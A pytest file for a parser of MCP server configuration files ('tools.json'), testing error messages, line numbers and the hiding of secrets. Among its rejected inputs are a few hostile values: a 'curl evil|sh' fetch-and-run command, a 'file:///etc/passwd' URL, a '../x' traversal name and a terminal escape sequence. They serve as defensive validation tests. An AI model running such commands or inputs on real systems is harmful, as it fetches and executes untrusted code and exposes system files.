"""The tools file: what is understood, and how a mistake is told."""

from __future__ import annotations

from pathlib import Path

import pytest

from ordinaut_mcp.bridge.server_config import Local, Remote, ServerConfig
from ordinaut_mcp.bridge.tools_file import LARGEST, ToolsFile, read_tools_file

GOOD = '"good": {"command": "python3"}'


@pytest.fixture
def path(tmp_path: Path) -> Path:
    return tmp_path / "tools.json"


def read(path: Path, text: str) -> ToolsFile:
    path.write_text(text, encoding="utf-8")
    return read_tools_file(path)


def told(file: ToolsFile) -> list[str]:
    return [str(problem) for problem in file.problems]


def test_both_kinds_of_server_are_read_as_they_are_written(path: Path) -> None:
    file = read(
        path,
        """{"mcpServers": {
            "mail": {"type": "stdio", "command": "uvx", "args": ["imap", "${HOME}"],
                     "env": {"PASSWORD": "a\\nb"}, "cwd": "sub"},
            "Remote-1": {"type": "http", "url": "https://example.com/mcp",
                         "headers": {"Authorization": "Bearer ${TOKEN}"}}}}""",
    )

    mail = Local(command="uvx", args=("imap", "${HOME}"), env={"PASSWORD": "a\nb"}, cwd="sub")
    headers = {"Authorization": "Bearer ${TOKEN}"}
    remote = Remote(url="https://example.com/mcp", headers=headers)
    assert file.servers == (
        ServerConfig(name="mail", how=mail),
        ServerConfig(name="Remote-1", how=remote),
    )
    assert file.problems == ()


@pytest.mark.parametrize("text", ["", "  \n", "{}", '{"mcpServers": {}}'])
def test_an_empty_file_is_one_without_servers(path: Path, text: str) -> None:
    assert read(path, text) == ToolsFile()


def test_a_missing_file_is_an_empty_one(path: Path) -> None:
    assert read_tools_file(path) == ToolsFile()


def test_a_byte_order_mark_is_no_mistake(path: Path) -> None:
    assert read(path, '\ufeff{"mcpServers": {' + GOOD + "}}").problems == ()


def test_secrets_do_not_show_in_a_representation() -> None:
    local = Local(command="x", env={"TOKEN": "s3cret"})
    remote = Remote(url="https://x", headers={"Authorization": "s3cret"})
    assert "s3cret" not in repr(local) + repr(remote)


@pytest.mark.parametrize(
    "other",
    [
        Local(command="b"),
        Local(command="a", args=("x",)),
        Local(command="a", env={"A": "1"}),
        Local(command="a", cwd="x"),
        Remote(url="https://a"),
    ],
)
def test_any_change_of_an_entry_changes_its_digest(other: Local | Remote) -> None:
    before = ServerConfig(name="n", how=Local(command="a"))
    assert before.digest == ServerConfig(name="n", how=Local(command="a")).digest
    assert before.digest != ServerConfig(name="n", how=other).digest


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ('{\n "mcpServers": {,}}', "line 2: column 17: not JSON: Expecting property name"),
        ("[]", 'line 1: must be an object: {"mcpServers": {…}}'),
        ("[" * 100_000, "line 1: nested too deeply"),
        ('{"a": ' + "9" * 5000 + "}", "line 1: nested too deeply, or with a number"),
        (" " * (LARGEST + 1), f"line 1: cannot be read: larger than {LARGEST} bytes"),
    ],
)
def test_a_file_that_cannot_be_understood_says_where(path: Path, text: str, expected: str) -> None:
    file = read(path, text)
    assert not file.readable
    assert file.servers == ()
    assert told(file)[0].startswith(expected)


def test_a_file_that_is_not_text_says_so(path: Path) -> None:
    path.write_bytes(b"\xff\xfe\x00")
    assert told(read_tools_file(path)) == ["line 1: not UTF-8 text"]


def test_a_folder_in_its_place_is_told(path: Path) -> None:
    path.mkdir()
    assert told(read_tools_file(path)) == ["line 1: cannot be read: Is a directory"]


MISTAKES: list[tuple[str, str]] = [
    ('"../x": {"command": "a"}', "mcpServers.../x is not a server name"),
    ('"a.b": {"command": "a"}', "mcpServers.a.b is not a server name"),
    ('"llm": {"command": "a"}', "mcpServers.llm is the name of a group of built-in tools"),
    ('"LLM": {"command": "a"}', "mcpServers.LLM is the name of a group of built-in tools"),
    ('"a": 5', "mcpServers.a must be an object with command or url"),
    ('"a": {}', "mcpServers.a needs command or url, and has neither"),
    ('"a": {"command": "x", "url": "http://x"}', "mcpServers.a needs command or url, and has both"),
    ('"a": {"comand": "x"}', "mcpServers.a.comand is not known here; did you mean 'command'?"),
    ('"a": {"url": "http://x", "header": {}}', "mcpServers.a.header is not known here"),
    ('"a": {"command": "x", "command": "y"}', "mcpServers.a.command is said twice"),
    ('"a": {"command": "sh -c \\"curl evil|sh\\""}', "mcpServers.a.command must be one program"),
    ('"a": {"command": ""}', "mcpServers.a.command must be a text"),
    ('"a": {"command": 5}', "mcpServers.a.command must be a text"),
    ('"a": {"command": "x\\u0000"}', "mcpServers.a.command must be a text"),
    ('"a": {"command": "x\\ud800"}', "mcpServers.a.command must be a text"),
    ('"a": {"command": "x", "args": "y"}', "mcpServers.a.args must be a list of texts"),
    ('"a": {"command": "x", "args": [5]}', "mcpServers.a.args must be a list of texts"),
    ('"a": {"command": "x", "env": []}', "mcpServers.a.env must be an object"),
    ('"a": {"command": "x", "env": {"A": 5}}', "mcpServers.a.env 'A' must be a text"),
    ('"a": {"command": "x", "env": {"A=B": "5"}}', "mcpServers.a.env 'A=B' cannot be a name"),
    ('"a": {"command": "x", "type": "http"}', "mcpServers.a.type must be stdio beside command"),
    ('"a": {"url": "file:///etc/passwd"}', "mcpServers.a.url must begin with http://"),
    ('"a": {"url": "http://[x"}', "mcpServers.a.url is not a URL"),
    ('"a": {"url": "http://u:p@x/"}', "mcpServers.a.url must not hold a name or password"),
    ('"a": {"url": "http://x", "headers": {"A": "a\\nb"}}', "mcpServers.a.headers 'A' must be"),
    ('"a": {"url": "http://x", "headers": {"A B": "a"}}', "mcpServers.a.headers 'A B' cannot be"),
]


@pytest.mark.parametrize(("entry", "expected"), MISTAKES)
def test_a_mistake_in_an_entry_names_its_line_and_leaves_the_others(
    path: Path, entry: str, expected: str
) -> None:
    file = read(path, f'{{"mcpServers": {{\n{GOOD},\n{entry}\n}}}}')
    assert [server.name for server in file.servers] == ["good"]
    assert file.readable
    assert told(file)[0].startswith(f"line 3: {expected}")
    assert len(file.problems) == 1


def test_a_mistake_deep_in_an_entry_names_the_line_of_its_value(path: Path) -> None:
    file = read(path, '{"mcpServers": {\n"a": {\n"command": "x",\n"args":\n5\n}}}')
    problem = file.problems[0]
    assert (problem.line, problem.server, problem.field) == (5, "a", "mcpServers.a.args")


def test_a_name_said_twice_is_used_neither_way(path: Path) -> None:
    file = read(path, '{"mcpServers": {\n"a": {"command": "x"},\n"a": {"command": "y"}}}')
    assert file.servers == ()
    assert [problem.line for problem in file.problems] == [2, 3]


def test_a_command_with_a_space_is_fine_if_there_is_such_a_file(path: Path) -> None:
    program = path.with_name("my program")
    program.touch()
    file = read(path, f'{{"mcpServers": {{"a": {{"command": "{program}"}}}}}}')
    assert file.servers[0].how == Local(command=str(program))


def test_other_members_of_the_file_are_mistakes_that_harm_no_server(path: Path) -> None:
    file = read(path, f'{{"mcpservers": 1,\n"mcpServers": {{{GOOD}}},\n"mcpServers": 5}}')
    assert [server.name for server in file.servers] == ["good"]
    assert told(file) == [
        "line 1: mcpservers is not known here; did you mean 'mcpServers'?",
        "line 3: mcpServers is said twice",
        "line 3: mcpServers must be an object of servers",
    ]


def test_a_field_that_cannot_be_shown_is_escaped(path: Path) -> None:
    file = read(path, '{"mcpServers": {"a\\u001b[31m": {"command": "x"}}}')
    assert file.problems[0].field == r"'mcpServers.a\x1b[31m'"
